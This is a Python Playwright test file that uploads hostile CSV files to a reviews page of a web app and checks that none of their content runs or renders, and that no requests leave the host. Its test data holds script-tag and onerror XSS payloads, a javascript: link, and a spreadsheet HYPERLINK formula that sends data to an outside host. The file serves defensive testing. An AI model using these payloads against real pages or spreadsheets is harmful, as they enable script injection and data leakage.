"""Ten hostile files and a good one, uploaded one after the other into one page that is never reloaded.

What the page must say is worked out by `lesson.reviews.read` from the same bytes, so that page and reader cannot part.
"""

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from lesson import places, reviews
from tests.support.browser import choose, idle, press, until

HOSTILE = Path(__file__).parent.parent / "data" / "hostile"
MARKUP = (
    "<script>window.hacked=1</script> never again",
    "<img src=x onerror=window.hacked=1> fine",
    r"$\frac{1}{2}$ of the tent leaks",
    "so **bold** of them",
    '=HYPERLINK("http://example.org/?stolen","open me")',
    "[linked](javascript:window.hacked=1) and ![picture](http://example.org/picture.png)",
    "+49 is their number",
    "-5 points",
    "@anna look at that",
    ":red[alarm] :material/warning: again",
)
COLUMNS, LABELS = ("<b>text</b>", "$mood$"), ("**happy**", "<img src=http://example.org/sad.png>")


def written(rows: list[tuple[str, str]], delimiter: str = ",") -> str:
    """Rows as a CSV."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue()


def wide() -> bytes:
    """Semicolons in UTF-16, as a German Excel saves “Unicode text” by a macro."""
    rows = [(f"das Zelt war schön am Tag {day}", ("gut", "schlecht")[day % 2]) for day in range(14)]
    return written([("Kommentar", "Urteil"), *rows], ";").encode("utf-16")


def headless() -> bytes:
    """Reviews from the first line on."""
    return written([(f"the soup was warm on day {day}", ("good", "bad")[day % 2]) for day in range(16)]).encode()


def markup() -> bytes:
    """Texts, labels and column names that would run or be drawn if anything interpreted them; each text comes twice."""
    rows = [(text, LABELS[at % 2]) for at, text in enumerate(MARKUP)]
    return written([COLUMNS, *rows, *rows]).encode()


def ten_and_a_good_one() -> list[tuple[str, bytes]]:
    """(name, bytes) in the order of uploading; the good one is last."""
    ready_made = (
        "a-zip.csv",
        "a-document.csv",
        "objects.csv",
        "one-label.csv",
        "empty.csv",
        "stray-quotes.tsv",
        "stars.csv",
    )
    made = (("wide.csv", wide()), ("headless.csv", headless()), ("<i>markup</i>.csv", markup()))
    files = [(name, (HOSTILE / name).read_bytes()) for name in ready_made]
    return [
        *files[:3],
        made[0],
        *files[3:6],
        made[1],
        files[6],
        made[2],
        ("good.csv", places.BUNDLED_REVIEWS.read_bytes()),
    ]


FILES = ten_and_a_good_one()


@pytest.fixture(scope="module")
def sentences() -> list[str]:
    """What the reader says of each file."""
    return [reviews.read(data, name).message for name, data in FILES]


@pytest.fixture
def page(tab):
    """The page Your reviews, about to take a file; notes in `page.elsewhere` each request to another host."""
    page = tab("Your_reviews")
    page.elsewhere = []
    page.on("request", lambda asked: page.elsewhere.append(asked.url) if leaves(asked.url) else None)
    choose(page, "My own file")
    page.locator("input[type=file]").wait_for(state="attached")
    return page


def leaves(address: str) -> bool:
    """Whether a request goes to another computer."""
    parts = urlsplit(address)
    return parts.scheme in ("http", "https", "ws", "wss") and parts.hostname != "127.0.0.1"


def upload(page: Page, name: str, data: bytes) -> None:
    """Choose a file, whatever was chosen before."""
    page.locator("input[type=file]").first.set_input_files({"name": name, "mimeType": "text/csv", "buffer": data})


def check_nothing_ran(page: Page) -> None:
    """No script, formula, link, picture or bold letter came of a file's words; nothing was fetched; nothing broke."""
    assert page.evaluate("() => window.hacked === undefined")
    assert page.locator(".katex, [data-testid=stException]").count() == 0
    assert page.get_by_text("Traceback").count() == 0
    drawn = page.locator(
        "strong, em, b, i, a, script, img[src*='example.org'], span[class*=colored]"
    ).all_text_contents()
    own = re.compile(r"bold|happy|linked|HYPERLINK|alarm|hacked|^text$|^markup$")
    assert [text for text in drawn if own.search(text.strip())] == []
    assert page.locator("img[src='x'], img[src*='example.org']").count() == 0
    assert page.elsewhere == []


def test_ten_hostile_files_and_a_good_one_each_get_their_own_sentence_in_one_page(page, sentences):
    before = None
    for (name, data), sentence in zip(FILES, sentences, strict=True):
        upload(page, name, data)
        told = page.locator(".st-key-verdict").get_by_text(sentence, exact=True)
        expect(told, name).to_be_visible(timeout=90_000)
        idle(page)
        expect(page.get_by_role("button", name=f"Remove {name}"), name).to_have_count(1)
        assert before is None or page.get_by_text(before, exact=True).count() == 0
        check_nothing_ran(page)
        before = sentence
    press(page, "Fine-tune on these reviews")
    until(lambda: "/Fine_tune" in page.url, page)
    assert "data=" in page.url
    expect(page.get_by_text("good.csv: 1,200 to train on")).to_be_visible(timeout=90_000)


def test_the_ten_files_have_ten_different_sentences(sentences):
    assert len(FILES) == 11
    assert len(set(sentences)) == 11


def test_the_rows_left_out_are_downloaded_without_a_cell_that_a_spreadsheet_would_run(page, tmp_path):
    upload(page, "markup.csv", markup())
    page.get_by_role("button", name="Fine-tune on these reviews").wait_for()
    idle(page)  # a panel that is still empty does not open
    page.get_by_text("Rows left out (10)").click()
    with page.expect_download() as waiting:
        press(page, "Download this table")
    waiting.value.save_as(tmp_path / "left-out.csv")
    with (tmp_path / "left-out.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["Line", "Reason", "Text"]
    assert [row[2].removeprefix("'") for row in rows] == list(MARKUP)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
    check_nothing_ran(page)
